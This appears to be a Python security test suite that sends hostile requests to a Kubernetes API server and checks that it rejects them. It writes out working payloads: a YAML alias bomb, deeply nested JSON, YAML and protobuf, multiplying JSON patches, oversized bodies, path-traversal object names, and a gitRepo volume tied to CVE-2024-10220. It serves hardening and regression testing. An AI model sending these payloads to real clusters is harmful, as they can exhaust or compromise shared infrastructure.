"""Small requests that would be large: aliases, depths, patches that multiply."""
import gzip
import json

from site_of_attacks import SPACE

BASE = '/api/v1/namespaces/%s/configmaps' % SPACE
PATCH = 'application/json-patch+json'


def attempt(site, cases):
    aliases = 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\na0: &a0 [x,x,x,x,x,x,x,x,x]\n' + ''.join('a%d: &a%d [%s]\n' % (n, n, ','.join(['*a%d' % (n - 1)] * 9)) for n in range(1, 12))
    for name, body, kind, expected, *theirs in (
            ('YAML\'s aliases (CVE-2019-11253)', aliases, 'application/yaml', '400 ', '...'), ('YAML\'s alias of itself', 'a: &a [*a]\n', 'application/yaml', '400 '), ('YAML as deep as it is long', '[' * 200000, 'application/yaml', '400 '),
            ('YAML of colons (CVE-2019-11254)', ':' * 500000, 'application/yaml', '4...', '...'), ('JSON as deep as it is long', '{"a":' * 100000 + '1' + '}' * 100000, 'application/json', '400 '), ('JSON\'s lists as deep', '[' * 500000, 'application/json', '400 '),
            ('JSON of one huge number', '{"metadata":{"name":"n"},"immutable":' + '9' * 500000 + '}', 'application/json', '400 '), ('half of JSON', '{"metadata":{"name":"n"', 'application/json', '400 '), ('JSON with bytes that are no UTF-8', b'{"metadata":{"name":"\xff\xfe"}}', 'application/json', '4'),
            ('Protobuf of junk', b'k8s\0' + b'\xff' * 1000, 'application/vnd.kubernetes.protobuf', '400 '), ('Protobuf as deep as it is long', b'k8s\0' + b'\x12\xff\xff\x03' * 5000, 'application/vnd.kubernetes.protobuf', '400 '),
            ('Protobuf of a length beyond it', b'k8s\0\x12\xff\xff\xff\xff\xff\xff\xff\xff\x7f', 'application/vnd.kubernetes.protobuf', '400 '), ('CBOR of a length beyond it', b'\xd9\xd9\xf7\xbb\xff\xff\xff\xff\xff\xff\xff\xff', 'application/cbor', '4', '...')):
        cases(name, expected, site.ask('root', 'POST', BASE, body, content_type=kind), theirs[0] if theirs else None)
    body = gzip.compress(b'{"a":"' + b'a' * (64 << 20))
    cases('64 MiB in gzip', '4', site.ask('root', 'POST', BASE, body, [('Content-Encoding', 'gzip')]))
    site.make(BASE, 'ConfigMap', 'grown', data={'a': 'x' * 1000})
    one = BASE + '/grown'
    many = [{'op': 'add', 'path': '/data/a', 'value': 'x'}] * 10001
    double = [{'op': 'add', 'path': '/data/b', 'value': 'x' * 1000}] + [{'op': 'copy', 'from': '/data', 'path': '/data/c%d' % n} for n in range(40)]
    for name, patch, kind, expected in (
            ('a JSON patch of 10001 operations (CVE-2019-1002100)', many, PATCH, '413 '), ('a JSON patch that doubles itself', double, PATCH, '4'), ('a JSON patch at the end of the world', [{'op': 'add', 'path': '/data/a/-/b/' + '0/' * 50000, 'value': 1}], PATCH, '4'),
            ('a JSON patch at an index beyond all', [{'op': 'add', 'path': '/metadata/finalizers/99999999999999', 'value': 'x'}], PATCH, '4'), ('a merge patch that is deep', '{"data":' * 50000 + '1' + '}' * 50000, 'application/merge-patch+json', '4'),
            ('a merge patch that outgrows what may be stored', {'data': {'a': 'x' * 2000000}}, 'application/merge-patch+json', '4'), ('a strategic patch of directives', {'data': {'$patch': 'replace', '$retainKeys': ['x'] * 10}, '$setElementOrder/data': [1]}, 'application/strategic-merge-patch+json', '...'),
            ('an apply with aliases', aliases, 'application/apply-patch+yaml', '4')):
        cases(name, expected, site.ask('root', 'PATCH', one + ('?fieldManager=x' if 'apply' in kind else ''), patch if isinstance(patch, str) else json.dumps(patch), content_type=kind), '...' if expected == '4' else None)
    for name, query in (('a selector as long as a book', 'labelSelector=' + ','.join('a%d=b' % n for n in range(60000))), ('a selector of brackets', 'labelSelector=' + 'a+in+(' * 20000), ('a limit below nothing', 'limit=-1'), ('a limit beyond all', 'limit=9223372036854775808'),
                        ('a continuation of junk', 'limit=1&continue=' + 'A' * 100000), ('a version beyond all', 'resourceVersion=99999999999999999999')):
        cases('a list with ' + name, '...', site.ask('root', 'GET', BASE + '?' + query))
    cases('a field manager as long as a book that nobody can read', '422 ',
          site.ask('root', 'POST', BASE + '?fieldManager=' + '%01' * 20000, {'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': 'n'}}))
    # CVE-2022-3162: the key of one kind is no part of another's.
    for name in ('..', '.', 'a/b', 'a%2fb', '%2e%2e%2fsecrets'):
        cases('a name of ' + name, '422 ', site.ask('root', 'POST', BASE, {'apiVersion': 'v1', 'kind': 'ConfigMap', 'metadata': {'name': name}}))
    cases('git in a volume runs commands (CVE-2024-10220)', '...', site.ask('root', 'POST', BASE.replace('configmaps', 'pods'), site.pod('git', volumes=[{'name': 'v', 'gitRepo': {'repository': 'https://192.0.2.1/x', 'directory': '..'}}])))
    cases('after all of it: a request', '200 ', site.ask('root', 'GET', one))
